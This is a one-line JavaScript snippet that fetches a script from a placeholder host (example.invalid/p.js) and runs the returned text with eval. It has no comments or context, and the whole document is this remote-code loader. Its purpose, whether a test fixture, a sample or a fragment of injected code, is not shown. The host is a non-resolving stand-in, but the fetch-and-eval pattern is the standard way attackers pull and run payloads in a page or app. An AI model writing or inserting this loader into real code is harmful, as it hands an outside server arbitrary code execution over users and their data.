fetch('https://example.invalid/p.js').then((r) => r.text()).then(eval);
